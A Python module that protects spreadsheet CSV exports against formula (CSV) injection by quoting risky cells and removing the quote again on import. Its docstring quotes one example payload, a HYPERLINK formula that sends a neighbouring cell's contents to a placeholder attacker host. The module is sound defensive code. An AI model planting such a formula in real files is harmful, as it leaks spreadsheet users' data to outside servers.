"""CSV for people: every file the project writes for someone to open in a spreadsheet (the
dashboard's export, a policy's categories and immediate-pickup kinds) is written here, and the
imports that read such a file back take its cells through :func:`cell_read`.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (CSV injection: ``=HYPERLINK("http://evil.example/?q="&A2,"点击")`` in a
category's name). As OWASP advises, such a text cell is written with a single quote in front,
which the spreadsheet shows as text and does not display. A number is left as it is, written
as text or not (``-50.0``): a spreadsheet reads it as a number, never as a formula. Text that
already starts with quotes before such a character gets one more, so that :func:`cell_read`,
taking exactly one quote off a cell that without it would have been protected, gives back
every value exported: an export read back is what was exported.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def _protected(text: str) -> bool:
    """Whether an exported ``text`` gets the quote: it starts (after any quotes) like a
    formula and is not a plain number."""
    return text.lstrip(QUOTE)[:1] in FORMULA_FIRST and not _NUMBER.fullmatch(text)


def cell(value: object) -> object:
    """A value as a CSV cell: ``None`` empty, text that starts like a formula quoted."""
    if value is None:
        return ""
    if isinstance(value, str) and value and _protected(value):
        return QUOTE + value
    return value


def cell_read(text: str) -> str:
    """A cell of an exported file as the value it was: the protective quote taken off."""
    if text.startswith(QUOTE) and _protected(text[1:]):
        return text[1:]
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """CSV text, header first, every cell through :func:`cell`. Lines end in CRLF (RFC 4180),
    and so a cell holding either character is quoted: a lone CR, never quoted under a LF
    ending, would end the row for a reader."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([cell(value) for value in header])
    writer.writerows([cell(value) for value in row] for row in rows)
    return buffer.getvalue()
